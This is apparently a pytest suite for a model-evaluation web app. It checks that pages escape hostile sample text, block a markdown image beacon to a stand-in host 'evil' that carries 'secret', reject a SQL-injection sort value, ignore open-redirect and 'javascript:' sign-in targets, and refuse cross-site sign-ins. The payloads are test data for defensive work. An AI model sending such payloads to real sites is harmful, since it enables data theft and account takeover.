"""Pages over real HTTP: what they show, to whom, and that nothing in them is alive."""

from collections.abc import Iterator
from urllib.parse import quote

import httpx2
import pytest
from servers.markup import SCRIPTS, check_served_page
from servers.team import PASSWORD, TeamServer

import aistrale_lab as lab
from aistrale_lab.domain.tasks import Dataset, Sample, Task
from aistrale_lab.server import cookies
from aistrale_lab.settings import Settings
from aistrale_lab.store.accounts import UserRecord

BEACON = "![](http://evil/?q=secret)"
HOSTILE = (*SCRIPTS, BEACON)


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TeamServer]:
    """A server over an experiment whose every text is a payload of S1 to S6, or S39."""
    url = f"sqlite:///{tmp_path_factory.mktemp('pages')}/store.db"
    samples = tuple(
        Sample(id=text, input=text, target="no" if n % 2 else text, group=text)
        for n, text in enumerate(HOSTILE)
    )
    dataset = Dataset(name=SCRIPTS[0], samples=samples)
    with lab.Lab.open(url, settings=Settings()) as bench, TeamServer(bench) as server:
        asked = Task(dataset=dataset, scorers="exact")
        bench.start(asked, ["embedded/echo", "embedded/constant"]).wait(60)
        for name in ("ann", "bob"):
            server.add_user(name)
        server.add_user("root", "admin")
        yield server


@pytest.fixture(scope="module")
def users(team: TeamServer) -> dict[str, UserRecord]:
    return {user.name: user for user in team.app.state.accounts.list()}


@pytest.fixture
def ann(team: TeamServer, users: dict[str, UserRecord]) -> Iterator[httpx2.Client]:
    """Ann's browser; the experiment is hers, and nobody else's."""
    team.give(team.bench.runs()[-1].experiment_id, users["ann"], visibility="private")
    with team.reader(users["ann"]) as client:
        yield client


@pytest.fixture
def bob(team: TeamServer, users: dict[str, UserRecord]) -> Iterator[httpx2.Client]:
    with team.reader(users["bob"]) as client:
        yield client


def places(team: TeamServer) -> dict[str, str]:
    """The addresses of the pages about the experiment."""
    *_, last, first = team.bench.runs()
    return {
        "list": "/experiments",
        "one": f"/experiments/{first.experiment_id}",
        "whole": f"/experiments/{first.experiment_id}?whole=1",
        "progress": f"/experiments/{first.experiment_id}/progress",
        "report": f"/experiments/{first.experiment_id}/report",
        "run": f"/runs/{first.id}",
        "compare": f"/compare?baseline={first.id}&candidate={last.id}&kind=all",
    }


def test_what_models_say_is_text_on_every_page(
    team: TeamServer, ann: httpx2.Client
) -> None:
    """S1 to S4: no payload becomes a tag, an attribute, or an address."""
    for name in ("list", "one", "whole", "run", "compare"):
        answer = ann.get(places(team)[name])

        assert answer.status_code == 200, name
        found = check_served_page(answer.text)
        assert SCRIPTS[0] in found.text, name


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_a_sample_of_any_name_and_text_has_its_page(
    team: TeamServer, ann: httpx2.Client, payload: str
) -> None:
    answer = ann.get(f"{places(team)['run']}/sample?id={quote(payload, safe='')}")

    assert answer.status_code == 200
    found = check_served_page(answer.text)
    bare = payload.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
    assert bare.replace("\u202e", "\\u202e") in found.text


def test_an_image_in_an_answer_is_not_loaded(
    team: TeamServer, ann: httpx2.Client
) -> None:
    """S39: `![](http://evil/?q=secret)` stays text, and no policy would load it."""
    answer = ann.get(f"{places(team)['run']}/sample?id={quote(BEACON, safe='')}")

    found = check_served_page(answer.text)
    assert BEACON in found.text
    assert not any("evil" in link and "//" in link for link in found.links)
    policy = answer.headers["content-security-policy"]
    assert "img-src 'self' data:;" in policy and "unsafe" not in policy


def test_what_is_not_seen_does_not_exist(
    team: TeamServer, ann: httpx2.Client, bob: httpx2.Client
) -> None:
    """The same page as for an experiment that there is not, and no name on it."""
    for name, path in places(team).items():
        mine, others = ann.get(path), bob.get(path)

        assert mine.status_code == 200
        assert others.status_code == (200 if name == "list" else 404)
        check_served_page(others.text)
        assert "script&gt;alert" not in others.text


def test_the_beginning_of_an_id_is_no_id(team: TeamServer, ann: httpx2.Client) -> None:
    run = team.bench.runs()[0]

    short = [ann.get(f"/runs/{run.id[:9]}"), ann.get(f"/experiments/{run.id[:3]}")]

    assert [answer.status_code for answer in short] == [404, 404]


def test_what_is_shared_is_seen_by_all_and_marked(
    team: TeamServer, users: dict[str, UserRecord], bob: httpx2.Client
) -> None:
    experiment_id = team.bench.runs()[0].experiment_id
    team.give(experiment_id, users["ann"], visibility="team")

    listed = bob.get("/experiments")

    assert f'href="/experiments/{experiment_id}"' in listed.text
    assert "ann <small>shared</small>" in listed.text
    assert bob.get(f"/experiments/{experiment_id}").status_code == 200


def test_a_table_is_sorted_searched_and_filtered_by_its_address(
    team: TeamServer, ann: httpx2.Client
) -> None:
    path = places(team)["run"]

    found = ann.get(f"{path}?search=iframe")
    right = ann.get(f"{path}?outcome=wrong&sort=sample_id&descending=1")
    unknown = ann.get(f"{path}?sort=(select password_hash from users)")

    assert "1 to 1 of 1 results (filtered from 12)" in found.text
    assert "1 to 6 of 6 results" in right.text
    assert 'aria-sort="descending"' in right.text
    assert unknown.status_code == 422
    check_served_page(unknown.text)


def test_of_many_groups_the_first_are_offered_and_all_are_found(
    team: TeamServer, users: dict[str, UserRecord]
) -> None:
    samples = tuple(Sample(id=f"{n}", input="x", group=f"g{n}") for n in range(230))
    task = Task(dataset=Dataset(name="many", samples=samples))
    found = team.bench.start(task, ["embedded/echo", "embedded/constant"]).wait(60)
    one, other = found.runs
    paths = (f"/runs/{one.id}?", f"/compare?baseline={one.id}&candidate={other.id}&")
    with team.reader(users["ann"]) as ann:
        for path in paths:
            first = ann.get(path).text
            few = ann.get(f"{path}kind=all&groups=G22&group=g5").text
            none = ann.get(f"{path}groups=nowhere").text

            assert "the first 200 of 230 groups are offered" in first
            assert first.count('<option value="g') == 200
            assert "11 of 230 groups are offered" in few
            assert few.count('<option value="g') == 12
            assert '<option value="g5" selected>' in few
            assert "0 of 230 groups are offered" in none


def test_errors_are_pages_for_browsers_and_json_for_programs(
    team: TeamServer, ann: httpx2.Client
) -> None:
    page = ann.get("/experiments/nothing")
    program = ann.get("/experiments/nothing", headers={"accept": "*/*"})
    api = ann.get("/api/v1/nothing")

    check_served_page(page.text)
    assert page.headers["x-request-id"] in page.text
    assert [a.status_code for a in (page, program, api)] == [404] * 3
    assert program.json()["error"]["error_type"] == "NotFoundError"
    assert api.json()["error"]["status_code"] == 404


def test_who_is_not_signed_in_is_asked_to_and_led_back(team: TeamServer) -> None:
    with team.visitor(accept="text/html") as nobody:
        asked = nobody.get("/compare?baseline=a&candidate=b")
        form = nobody.get(asked.headers["location"])

    assert asked.status_code == 303
    assert asked.headers["location"].startswith("/sign-in?next=%2Fcompare%3F")
    assert 'name="next" value="/compare?baseline=a&amp;candidate=b"' in form.text


@pytest.mark.parametrize(
    "path",
    [
        *("http://evil/", "//evil/", "/\\evil/", "\\\\evil", "/\t/evil/", "/%09/evil"),
        *("/%2f/evil", "/%5cevil", "javascript:alert(1)", "https:evil", "///evil", ""),
        *("/\n//evil", "/a//evil", "evil", "/ /evil", "/[//evil"),
    ],
)
def test_signing_in_leads_to_no_other_site(team: TeamServer, path: str) -> None:
    with team.visitor(accept="text/html", origin=team.url) as browser:
        fields = {"name": "ann", "password": PASSWORD, "next": path}
        answer = browser.post("/sign-in", data=fields)

    assert answer.status_code == 303
    assert answer.headers["location"] == "/experiments"


def test_signing_in_gives_a_cookie_and_signing_out_takes_it(team: TeamServer) -> None:
    """S26, S27: by the form, as by the API."""
    with team.visitor(accept="text/html", origin=team.url) as browser:
        fields = {"name": "ann", "password": PASSWORD, "next": "/account?x=1"}
        entered = browser.post("/sign-in", data=fields)
        cookie = entered.headers["set-cookie"].split(";")[0]
        browser.headers["cookie"] = cookie
        inside = browser.get("/experiments")
        left = browser.post("/sign-out", data={"leave": "1"})
        after = browser.get("/experiments")

    assert entered.headers["location"] == "/account?x=1"
    assert cookie.startswith(f"{cookies.NAME}=")
    assert inside.status_code == 200 and "Sign out" in inside.text
    assert (left.status_code, left.headers["location"]) == (303, "/sign-in")
    assert f'{cookies.NAME}=""' in left.headers["set-cookie"]
    assert after.headers["location"].startswith("/sign-in?next=")


def test_a_wrong_password_is_told_on_the_form_and_not_repeated(
    team: TeamServer,
) -> None:
    with team.visitor(accept="text/html", origin=team.url) as browser:
        fields = {"name": SCRIPTS[0], "password": "hunter2SECRET"}
        answer = browser.post("/sign-in", data=fields)

    found = check_served_page(answer.text)
    assert answer.status_code == 401
    assert "Name or password is wrong." in found.text
    assert "SECRET" not in answer.text
    assert "set-cookie" not in answer.headers


def test_another_site_signs_nobody_in_or_out(
    team: TeamServer, ann: httpx2.Client
) -> None:
    """S28: a form of another site."""
    foreign = {"origin": "http://evil", "sec-fetch-site": "cross-site"}
    with team.visitor(accept="text/html", **foreign) as browser:
        fields = {"name": "ann", "password": PASSWORD}
        entered = browser.post("/sign-in", data=fields)
    left = ann.post("/sign-out", data={"leave": "1"}, headers=foreign)

    assert (entered.status_code, left.status_code) == (403, 403)
    assert "set-cookie" not in entered.headers
    assert ann.get("/experiments").status_code == 200


def test_a_report_is_a_file_that_stands_alone(
    team: TeamServer, ann: httpx2.Client
) -> None:
    answer = ann.get(places(team)["report"])

    assert answer.headers["content-disposition"].startswith("attachment;")
    assert 'href="/' not in answer.text
    assert "default-src 'none'" in answer.text
